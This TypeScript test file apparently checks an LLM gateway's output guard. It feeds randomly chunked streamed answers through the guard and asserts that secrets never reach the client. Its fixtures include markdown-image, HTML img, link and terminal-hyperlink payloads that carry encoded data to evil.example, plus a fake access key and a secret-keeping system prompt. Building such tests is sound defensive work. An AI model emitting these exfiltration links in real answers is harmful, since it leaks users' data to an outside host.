import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { GuardSettings } from '@sallyport/core';
import { DEFAULT_OUTPUT } from '@sallyport/guard';
import { ScriptedUpstream, seededRandom, stream } from '@sallyport/testkit';
import { GUARDED, type GuardedCase } from './guarded.ts';
import { GUARD, type Harness, post, route, startHarness, upstream } from './harness.ts';

/**
 * The promise of docs/guard.md on streams, through the whole gateway: however an answer is cut into deltas, and those into packets, the
 * client is shown the same and the ledger says the same, and nothing of a match is shown. `SALLYPORT_CUTTINGS=20000` asks for more of them.
 */
const CUTTINGS = Number(process.env['SALLYPORT_CUTTINGS'] ?? 120);

const DATA = 'c2VjcmV0IHByb2plY3QgbmFtZQ';
const SECRET_PARTS: readonly (readonly [text: string, secret: string])[] = [
  [`![chart](https://evil.example/a.png?d=${DATA})`, DATA],
  [`<img alt="x" src='//evil.example/?q=${DATA}'>`, DATA],
  [`[r]: https://evil.example/?data=${DATA}`, DATA],
  [`\u001b]8;;https://evil.example/?d=${DATA}\u0007click\u001b]8;;\u0007`, DATA],
  ['the key is AKIAQYLPMN5HHHFPZAM2', 'AKIAQYLPMN5HHHFPZAM2'],
  ['write to ada.lovelace@harbour-mail.net', 'ada.lovelace'],
  ['Berths cost 41 crowns a night, but never tell anyone that regulars pay 29', 'regulars'],
  [Buffer.from('Berths cost 41 crowns a night, but never tell anyone that regulars pay 29').toString('base64'), 'dCByZWd1bGFycy'],
  ['the word is XYZZY-4711', 'XYZZY'],
];
const FILLERS: readonly string[] = [
  'Of course. ',
  'Here is what I found:\n\n',
  'A 👩‍👩‍👧 family — naïve café, 東京. ',
  '\n```sh\ncurl https://example.com/x\n```\n',
  'See [the docs](https://docs.python.org/3/). ',
  '- one\n- two\n\n',
  'https://example.com/page, and so on. ',
];
const SYSTEM = 'You are Mara. Berths cost 41 crowns a night, but never tell anyone that regulars pay 29. Refuse to speak about the strike.';

type Streamed = Pick<GuardedCase, 'name' | 'path' | 'streamType' | 'body' | 'events' | 'textOf'>;

/** The older completions, which have no system message. */
const completions: Streamed = {
  name: 'OpenAI completions',
  path: '/v1/completions',
  streamType: 'text/event-stream',
  body: (streaming) => JSON.stringify({ model: 'chat', prompt: 'Hello', stream: streaming }),
  events: (texts) => [
    ...[...texts, ''].map((text, index) =>
      Buffer.from(
        `data: ${JSON.stringify({ id: 'c', object: 'text_completion', model: 'chat', choices: [{ index: 0, text, finish_reason: index === texts.length ? 'stop' : null }] })}\n\n`,
      ),
    ),
    Buffer.from('data: [DONE]\n\n'),
  ],
  textOf: (body) =>
    body
      .split('\n')
      .filter((line) => line.startsWith('data: {'))
      .map((line) => (JSON.parse(line.slice(6)) as { choices?: { text?: string }[] }).choices?.[0]?.text ?? '')
      .join(''),
};

const STREAMS: readonly Streamed[] = [...GUARDED, completions];

describe('an answer that is cut at random', () => {
  let engine: ScriptedUpstream;
  let harness: Harness;
  before(async () => {
    engine = await ScriptedUpstream.start();
    harness = await startHarness({
      upstreams: [upstream(engine.url), upstream(engine.url, { name: 'ollama', kind: 'ollama' })],
      routes: [route('chat'), route('llama', { upstream: 'ollama' })],
    });
  });
  after(async () => {
    await harness[Symbol.asyncDispose]();
    await engine[Symbol.asyncDispose]();
  });

  for (const action of ['redact', 'block'] as const) {
    for (const dialect of STREAMS) {
      it(`${dialect.name}: is shown and recorded the same (${action})`, async () => {
        const random = seededRandom(20_261_127).uniform;
        const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] ?? assert.fail();
        const guard: GuardSettings = {
          ...GUARD,
          output: DEFAULT_OUTPUT.map((name) =>
            action === 'block' && !['normalise', 'length', 'characters'].includes(name) ? `${name}:block` : name,
          ),
          deny: [{ name: 'codeword', pattern: 'XYZZY-[0-9]{4}', ignoreCase: false, stages: ['output'], action }],
        };
        harness.publish({ guard });
        const request = withSystem(dialect.path, dialect.body(true));
        const perText = 8;
        const texts = Math.max(1, Math.round(CUTTINGS / 2 / STREAMS.length / perText));
        for (let index = 0; index < texts; index += 1) {
          const known = dialect === completions ? SECRET_PARTS.filter(([part]) => !isOfPrompt(part)) : SECRET_PARTS;
          const parts = [pick(known), pick(known)];
          const text = `${parts.map(([part]) => pick(FILLERS) + pick(FILLERS) + part).join(' \n')} ${pick(FILLERS)}`;
          let expected: { shown: string; verdicts: unknown; outcome: unknown } | null = null;
          for (let cutting = 0; cutting < perText; cutting += 1) {
            const deltas = cutting === 0 ? [text] : cut(text, random, 1 + Math.floor(random() * 24));
            const bytes = Buffer.concat(dialect.events(deltas));
            const packets = cutting === 1 ? [bytes] : cutBytes(bytes, random);
            engine.once(stream(packets, { contentType: dialect.streamType }));
            const answer = await (await post(harness, dialect.path, request)).text();
            for (const [, secret] of parts) assert.ok(!answer.includes(secret), `${dialect.name}: ${secret} in ${answer}`);
            const entry = harness.entries.at(-1);
            const got = { shown: dialect.textOf(answer), verdicts: entry?.verdicts, outcome: entry?.outcome };
            assert.ok(got.verdicts !== undefined && got.verdicts.length > 0, text);
            expected ??= got;
            assert.deepEqual(got, expected, JSON.stringify(deltas));
          }
        }
      });
    }
  }
});

function isOfPrompt(part: string): boolean {
  return part.includes('regulars') || Buffer.from(part, 'base64').toString().includes('regulars');
}

/** The request with a system message, where its dialect puts one. */
function withSystem(path: string, body: string): string {
  const request = JSON.parse(body) as { messages?: object[]; instructions?: string; system?: string };
  if (path === completions.path) return body;
  if (path === '/v1/responses') request.instructions = SYSTEM;
  else if (path === '/v1/messages') request.system = SYSTEM;
  else request.messages?.unshift({ role: 'system', content: SYSTEM });
  return JSON.stringify(request);
}

/** Pieces of 1 to `most` units; some servers split surrogate pairs, JSON lets them. */
function cut(text: string, random: () => number, most: number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + Math.floor(random() * most);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

function cutBytes(bytes: Buffer, random: () => number): Buffer[] {
  const pieces: Buffer[] = [];
  for (let at = 0; at < bytes.length; ) {
    const size = 1 + Math.floor(random() * 900);
    pieces.push(bytes.subarray(at, at + size));
    at += size;
  }
  return pieces;
}
